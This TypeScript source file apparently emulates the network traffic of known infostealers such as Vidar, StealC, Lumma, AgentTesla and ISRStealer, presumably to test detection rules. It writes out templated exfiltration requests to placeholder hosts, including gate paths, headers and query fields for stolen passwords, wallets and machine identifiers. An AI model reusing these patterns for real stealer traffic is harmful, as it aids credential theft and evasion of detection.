import { dotnet, FORM, OCTETS, winhttp, wininet } from './clients.ts';
import { again, type Imitation, imitation, sameConnection } from './imitation.ts';
import { goHttp } from './library-clients.ts';

const RULES = {
  source: 'public network rules and vendor descriptions (Emerging Threats open, Proofpoint, Zscaler)',
} as const;
const ANYRUN = { source: 'public sandbox reports and write-ups (ANY.RUN, Sekoia, CyberArk)' } as const;

/** The header fields that Arkei and its offspring took over from each other. */
const arkei = (line: string, type?: string, body?: string): string =>
  [
    `${line} HTTP/1.1`,
    'Accept: text/html, application/xml;q=0.9, application/xhtml+xml, image/png, image/jpeg, image/gif, image/x-xbitmap, */*;q=0.1',
    'Accept-Language: ru-RU,ru;q=0.9,en;q=0.8',
    'Accept-Charset: iso-8859-1, utf-8, utf-16, *;q=0.1',
    'Accept-Encoding: deflate, gzip, x-gzip, identity, *;q=0',
    ...(type === undefined ? [] : [`Content-Type: ${type}`]),
    'Host: {host}',
    ...(body === undefined ? [] : ['Content-Length: {length}']),
    'Connection: Keep-Alive',
    'Cache-Control: no-cache',
    '',
    body ?? '',
  ].join('\n');

const part = (boundary: string, name: string, content: string): string =>
  `--${boundary}\nContent-Disposition: form-data; name="${name}"; filename="${name}.zip"\n${content}\n--${boundary}--`;

/** A request with two fields, as a program without a library writes it. */
const plainRequest = (line: string): string =>
  `${line} HTTP/1.1\nUser-Agent: HardCore Software For : Public\nHost: {host}\nCache-Control: no-cache\n\n`;

/** Programs that send away what they find: passwords, wallets, forms. */
export const stealers: readonly Imitation[] = [
  imitation(
    'Vidar',
    'configuration by a number, libraries by name, then a multipart upload to the root',
    '{pick:{address}|{generated}}',
    [
      arkei(
        'POST /{profile=number:100-1200}',
        'multipart/form-data; boundary=1BEF0A57BE110FD467A',
        part('1BEF0A57BE110FD467A', 'x', '{digits:9}'),
      ),
      sameConnection(arkei('GET /freebl3.dll')),
      sameConnection(arkei('GET /mozglue.dll')),
      sameConnection(arkei('GET /{pick:nss3|softokn3|vcruntime140|msvcp140}.dll')),
      arkei(
        'POST /',
        'multipart/form-data; boundary=1BEF0A57BE110FD467A',
        part('1BEF0A57BE110FD467A', 'logs', '{bytes:300-600}'),
      ),
    ],
    ANYRUN,
  ),
  imitation(
    'StealC',
    'multipart POST of hwid and build, then libraries below sixteen hexadecimal digits; no User-Agent',
    '{address}',
    [
      again(
        2,
        'POST /{gate=hex:16}.php HTTP/1.1\nContent-Type: multipart/form-data; boundary=----{upper:20}\nHost: {host}\nContent-Length: {length}\nConnection: Keep-Alive\nCache-Control: no-cache\n\n{bytes:200-700}',
      ),
      ...['sqlite3', 'freebl3', 'mozglue'].map((name) => ({
        says: `GET /{folder=hex:16}/${name}.dll HTTP/1.1\nHost: {host}\nCache-Control: no-cache\n\n`,
      })),
    ],
    { ...ANYRUN, machines: 3 },
  ),
  imitation(
    'PredatorTheThief',
    'multipart upload to an api gate with counters p1 to p9',
    '{generated}',
    [
      wininet('GET /api/check.get', { agent: '{firefox}' }),
      wininet(
        'POST /api/gate.get?p1={number:0-40}&p2={number:0-9}&p3={number:0-5}&p4={number:0-5}&p5=0&p6=0&p7=0&p8={number:0-4}',
        {
          type: 'multipart/form-data; boundary={hex:16}',
          agent: '{pick:Predator the Thief|Mozilla}',
          body: '{bytes:300-700}',
        },
      ),
    ],
    RULES,
  ),
  imitation(
    'KPOT',
    'encoded configuration from conf.php, then a POST of an octet stream to gate.php',
    '{generated}',
    [
      'GET /{folder=mixed:16}/conf.php HTTP/1.1\nHost: {host}\nCache-Control: no-cache\n\n',
      'POST /{folder}/gate.php HTTP/1.1\nContent-Type: application/octet-stream\nContent-Encoding: binary\nHost: {host}\nContent-Length: {length}\nConnection: Keep-Alive\nCache-Control: no-cache\n\n{bytes:300-700}',
    ],
    RULES,
  ),
  imitation(
    'Lumma',
    'form act=life, then multipart uploads to one api path',
    '{generated}',
    [
      wininet('POST /{path=pick:api|c2conf|c2sock}', {
        type: FORM,
        agent:
          '{agent=pick:TeslaBrowser/5.5|Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36}',
        body: 'act=life',
      }),
      again(
        3,
        wininet('POST /{path}', {
          type: 'multipart/form-data; boundary={mixed:16-24}',
          agent: '{agent}',
          body: '{bytes:300-800}',
        }),
      ),
    ],
    ANYRUN,
  ),
  imitation(
    'AgentTesla',
    'panel of .NET: POST of p and an encrypted value, Expect: 100-continue',
    '{site}',
    [
      again(
        3,
        dotnet('POST /{folder=word}/inc/{script=hex:14}.php', {
          type: FORM,
          agent:
            'Mozilla/5.0 (Windows; U; Windows NT 6.1; ru; rv:1.9.2.3) Gecko/20100401 Firefox/4.0 (.NET CLR 3.5.30729)',
          body: 'p={base64:120-200}',
        }),
      ),
    ],
    RULES,
  ),
  imitation(
    'ISRStealer',
    'one GET a password: action=add, username, password, app, pcname, sitename',
    '{site}',
    [
      again(
        4,
        plainRequest(
          'GET /{folder=word}/index.php?action=add&username={user}{digits:2}&password={mixed:8}&app={pick:Firefox|Chrome|FileZilla}&pcname={computer}&sitename=http://{site}/',
        ),
      ),
    ],
    RULES,
  ),
  imitation(
    'Baldr',
    'multipart upload with hwid, os and counters in the query',
    '{generated}',
    [
      winhttp(
        'GET /gate.php?hwid={hwid=HEX:16}&os={pick:Windows%207|Windows%2010%20Pro%20x64}&build={number:1-90}',
        { agent: '{chrome}' },
      ),
      winhttp('POST /gate.php?hwid={hwid}&file={number:1-9}&pwd={number:0-40}&cc={number:0-3}', {
        type: 'multipart/form-data; boundary=------------{hex:16}',
        agent: '{chrome}',
        body: '{bytes:400-700}',
      }),
    ],
    RULES,
  ),
  imitation(
    'Evrial',
    'UploadFile of .NET: a boundary of clock ticks',
    '{site}',
    [
      again(
        2,
        dotnet('POST /{pick:files/upload|load|log}.php?user={user}&hwid={hwid=HEX:8-10}&id={number:1-900}', {
          type: 'multipart/form-data; boundary=---------------------8d{hex:13}',
          body: '{bytes:400-700}',
        }),
      ),
    ],
    RULES,
  ),
  imitation(
    'Taurus',
    'POST to cfg, log and loader folders, several forms',
    '{address}',
    ['cfg', 'log', 'dlls', 'loader/complete'].map((folder) => ({
      says: wininet(`POST /${folder}/`, {
        type: FORM,
        agent: 'CharLover',
        accept: 'text/html,application/xhtml+xml',
        body: '{base64:60-200}',
      }),
    })),
    RULES,
  ),
  imitation(
    'CryptBot',
    'multipart upload of an archive to index or gate, twice',
    '{lower:6}{number:10-99}.test',
    [
      again(
        2,
        wininet('POST /{pick:index|gate|v1/upload|zip}.php', {
          type: 'multipart/form-data; boundary=----Boundary{digits:12}',
          agent: '{chrome}',
          more: 'Accept: text/html,application/xhtml+xml,application/xml; q=0.9,image/webp,*/*; q=0.8\nAccept-Language: en-US,en;q=0.9',
          body: '{bytes:400-700}',
        }),
      ),
    ],
    RULES,
  ),
  imitation(
    'Eternity',
    'Go and .NET stealer of a kit: upload with the machine in the query',
    '{address}',
    [
      again(
        2,
        goHttp(
          'POST /{pick:stealer|upload|api/logs}/{number:1000000-99999999}?pwds={number:0-60}&cards=0&wlts={number:0-3}&files={number:0-90}&user={user}&comp={computer}&ip={address}&country={pick:US|DE|BR}',
          { type: OCTETS, body: '{bytes:400-900}' },
        ),
      ),
    ],
    ANYRUN,
  ),
];
